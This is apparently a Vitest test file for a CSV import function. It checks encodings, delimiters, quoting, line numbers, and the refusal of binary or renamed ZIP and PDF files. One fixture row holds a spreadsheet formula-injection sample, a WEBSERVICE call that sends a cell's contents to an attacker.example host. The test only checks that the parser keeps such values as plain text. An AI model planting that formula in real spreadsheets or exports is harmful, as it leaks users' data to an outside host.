import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { crc32 } from 'node:zlib';
import { AppError } from '../../shared/errors';
import { readCsv } from './readCsv';

const projectRoot = fileURLToPath(new URL('../../../', import.meta.url));
const fixture = (name: string) => readFileSync(path.resolve(projectRoot, 'fixtures/csv', name));

function refusal(run: () => unknown): AppError {
  try {
    run();
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('expected the file to be refused');
}

describe('readCsv on the fixture files', () => {
  it('reads an Excel "CSV UTF-8" file: BOM dropped, quoted commas, newlines and quotes kept', () => {
    const table = readCsv(fixture('contacts-utf8-bom-crlf.csv'));
    expect(table.encoding).toBe('utf-8');
    expect(table.hasBom).toBe(true);
    expect(table.delimiter).toBe(',');
    expect(table.columns[0]).toBe('Full name');
    expect(table.rows).toHaveLength(4);
    expect(table.rows[0]!.cells[2]).toBe('Compilers, Inc.');
    expect(table.rows[0]!.cells[3]).toBe('My manager wrote:\r\n"worth a look"');
    expect(table.rows[1]!.cells[0]).toBe('Frédérique Lemaître');
    expect(table.rows[2]!.cells[0]).toBe('王小明');
    expect(table.rows[3]!.cells.slice(0, 4)).toEqual([
      'Nakamura, Yui',
      'yui@example.jp',
      'Nakamura & Daughters',
      'Meetup, Osaka',
    ]);
    // The second data row starts on line 4: the quoted newline spans lines 2-3.
    expect(table.rows.map((r) => r.line)).toEqual([2, 4, 5, 6]);
  });

  it('detects a semicolon-separated European export and leaves numbers and dates as written', () => {
    const table = readCsv(fixture('orders-semicolon-decimal-comma.csv'));
    expect(table.delimiter).toBe(';');
    expect(table.columns).toEqual(['Name', 'E-Mail', 'Summe', 'Bestelldatum', 'Newsletter']);
    expect(table.rows.map((r) => r.cells[2])).toEqual(['2.045,75', '12,00', '0,05']);
    expect(table.rows.map((r) => r.cells[3])).toEqual(['13.02.2025', '21.02.2025', '28.02.2025']);
  });

  it('decodes Windows-1252 punctuation, letters and currency rather than mojibake or control characters', () => {
    const table = readCsv(fixture('feedback-windows-1252.csv'));
    expect(table.encoding).toBe('windows-1252');
    expect(table.rows[0]!.cells).toEqual([
      'Hélène Šimek',
      '‘Lovely’ breakfast — “would book again”',
      '€25',
    ]);
    expect(table.rows[1]!.cells).toEqual([
      'François Œuvrard',
      'Quiet room™… mostly; „fine“ – žero complaints',
      '€9',
    ]);
  });

  it('reads mixed LF and CRLF line endings with no stray carriage return', () => {
    const table = readCsv(fixture('mixed-line-endings.csv'));
    expect(table.rows).toHaveLength(3);
    for (const row of table.rows) for (const cell of row.cells) expect(cell).not.toMatch(/\r/);
    expect(table.rows.map((r) => r.cells[2])).toEqual(['3', '12', '0']);
  });

  it('refuses an unterminated quote, naming the line where the bad row starts', () => {
    const error = refusal(() => readCsv(fixture('unterminated-quote.csv')));
    expect(error.code).toBe('INVALID_INPUT');
    expect(error.message).toMatch(/^Line 3: .*never closed/);
    expect(error.details).toMatchObject({ line: 3, problem: 'CSV_QUOTE_NOT_CLOSED' });
  });

  it('decodes Excel "Unicode text" (UTF-16LE, tabs)', () => {
    const table = readCsv(fixture('unicode-text-utf16le.txt'));
    expect(table.encoding).toBe('utf-16le');
    expect(table.delimiter).toBe('\t');
    expect(table.columns).toEqual(['Name', 'Email', 'City']);
    expect(table.rows.map((r) => r.cells)).toEqual([
      ['Åsa', 'asa@example.se', 'Göteborg'],
      ['Tomasz', 'tomasz@example.pl', 'Łódź'],
    ]);
  });

  it('skips blank lines and the empty trailing column of loose headers', () => {
    const table = readCsv(fixture('loose-headers.csv'));
    expect(table.columns).toEqual([' Full_NAME  ', 'E-mail Address', 'rating (out of 5)']);
    expect(table.rows.map((r) => r.cells)).toEqual([
      ['Petra Novak', 'petra@example.com', '2'],
      ['Quentin Blake', 'quentin@example.com', '5'],
    ]);
    expect(table.rows.map((r) => r.line)).toEqual([3, 5]);
  });

  it('keeps formula-like values as text exactly as written', () => {
    const table = readCsv(fixture('formula-values.csv'));
    expect(table.rows.map((r) => r.cells)).toEqual([
      ['=WEBSERVICE("http://attacker.example/?q="&A2)', '+7*3'],
      ['@NOW()', '-3*4'],
      [' =2*2', '\t@cmd'],
      ['just text', '-12'],
    ]);
  });
});

describe('readCsv choices', () => {
  const bytes = (text: string) => new TextEncoder().encode(text);

  it('skips a preamble above the header row', () => {
    const table = readCsv(
      bytes('Export from Shop\nGenerated 2024-05-01\n\nName,Email,Total\nA,a@x.io,1\nB,b@x.io,2\n'),
    );
    expect(table.headerLine).toBe(4);
    expect(table.columns).toEqual(['Name', 'Email', 'Total']);
    expect(table.rows).toHaveLength(2);
  });

  it('follows the user on header line, delimiter and encoding', () => {
    const table = readCsv(bytes('a;b\nName,Email\nx,y\n'), { headerLine: 2, delimiter: ',' });
    expect(table.columns).toEqual(['Name', 'Email']);
    expect(readCsv(bytes('Name\nRené\n'), { encoding: 'windows-1252' }).rows[0]!.cells[0]).toBe(
      'RenÃ©',
    );
  });

  it('refuses a row wider than the header instead of dropping its values', () => {
    const error = refusal(() => readCsv(bytes('a,b\n1,2\n1,2,3\n')));
    expect(error.details).toMatchObject({ line: 3, problem: 'TOO_MANY_FIELDS' });
  });
});

describe('readCsv on files people really produce', () => {
  const bytes = (text: string) => new TextEncoder().encode(text);

  /** A ZIP record: little-endian fields at their offsets, the rest zero. */
  function record(size: number, fields: Array<[at: number, value: number, bytes: 2 | 4]>): Buffer {
    const b = Buffer.alloc(size);
    for (const [at, value, n] of fields) {
      if (n === 2) b.writeUInt16LE(value, at);
      else b.writeUInt32LE(value, at);
    }
    return b;
  }

  /** A real ZIP archive (entries stored, not compressed), as workbooks and documents are. */
  function zip(entries: Record<string, string>): Uint8Array {
    const parts: Buffer[] = [];
    const central: Buffer[] = [];
    let offset = 0;
    for (const [name, content] of Object.entries(entries)) {
      const data = Buffer.from(content);
      const fileName = Buffer.from(name);
      const [crc, n, len] = [crc32(data), fileName.length, data.length];
      const local = record(30, [
        [0, 0x04034b50, 4],
        [4, 20, 2],
        [14, crc, 4],
        [18, len, 4],
        [22, len, 4],
        [26, n, 2],
      ]);
      const entry = record(46, [
        [0, 0x02014b50, 4],
        [4, 20, 2],
        [6, 20, 2],
        [16, crc, 4],
        [20, len, 4],
        [24, len, 4],
        [28, n, 2],
        [42, offset, 4],
      ]);
      parts.push(local, fileName, data);
      central.push(entry, fileName);
      offset += local.length + n + len;
    }
    const directory = Buffer.concat(central);
    const count = central.length / 2;
    const end = record(22, [
      [0, 0x06054b50, 4],
      [8, count, 2],
      [10, count, 2],
      [12, directory.length, 4],
      [16, offset, 4],
    ]);
    return new Uint8Array(Buffer.concat([...parts, directory, end]));
  }

  it("takes Excel's sep= first line as the delimiter, not as the header", () => {
    const table = readCsv(bytes('sep=;\r\nName;Note\r\nAda;one, two, three\r\nBob;four, five\r\n'));
    expect(table.delimiter).toBe(';');
    expect(table.headerLine).toBe(2);
    expect(table.columns).toEqual(['Name', 'Note']);
    expect(table.rows).toEqual([
      { line: 3, cells: ['Ada', 'one, two, three'] },
      { line: 4, cells: ['Bob', 'four, five'] },
    ]);
    // Quoted, after a byte-order mark, and a tab: the same.
    const tabbed = readCsv(
      new Uint8Array([0xef, 0xbb, 0xbf, ...bytes('"sep=\t"\nName\tNote\nAda\tx\n')]),
    );
    expect(tabbed.delimiter).toBe('\t');
    expect(tabbed.columns).toEqual(['Name', 'Note']);
  });

  it.each([
    [
      'a Word document (.docx)',
      () => zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' }),
    ],
    ['a ZIP archive of other files', () => zip({ 'notes.txt': 'Name,Email\nAda,a@x.io\n' })],
    ['a PDF document', () => bytes('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n')],
  ])('refuses %s renamed to .csv, saying what it is', (kind, file) => {
    const error = refusal(() => readCsv(file()));
    expect(error.message).toContain(`This file is ${kind}`);
    expect(error.message).toContain('not a workbook (.xlsx, .xls, .ods) or a CSV file');
    expect(error.details).toMatchObject({ problem: 'NOT_TEXT' });
  });

  it('refuses a file with NUL bytes, and binary data, instead of reading them as rows', () => {
    expect(
      refusal(() => readCsv(bytes('Name,Email\nAda,ada@example.com\u0000\u0000\nBob,b@x.io\n')))
        .message,
    ).toMatch(/^This file holds NUL bytes.*not CSV/);
    // Bytes with no NUL and no pattern: what a program or a compressed file looks like.
    let seed = 7;
    const noise = Uint8Array.from({ length: 4096 }, () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return 1 + (seed % 255);
    });
    const error = refusal(() => readCsv(noise));
    expect(error.message).toMatch(/^This file is binary data, not text/);
    expect(error.details).toMatchObject({ problem: 'NOT_TEXT' });
  });

  it('takes rows of only spaces and tabs for blank rows', () => {
    const table = readCsv(bytes('Name,Email\nAda,ada@x.io\n  ,\t\n \t \n\t\t\nBob,bob@x.io\n'));
    expect(table.rows).toEqual([
      { line: 2, cells: ['Ada', 'ada@x.io'] },
      { line: 6, cells: ['Bob', 'bob@x.io'] },
    ]);
  });

  it('tells apart columns whose headers repeat a name, by their column number', () => {
    const table = readCsv(bytes('Name,Email,email ,Phone,Email\nAda,a@x.io,b@x.io,1,c@x.io\n'));
    expect(table.columns).toEqual([
      'Name',
      'Email (column 2)',
      'email (column 3)',
      'Phone',
      'Email (column 5)',
    ]);
    expect(table.rows[0]!.cells).toEqual(['Ada', 'a@x.io', 'b@x.io', '1', 'c@x.io']);
  });
});
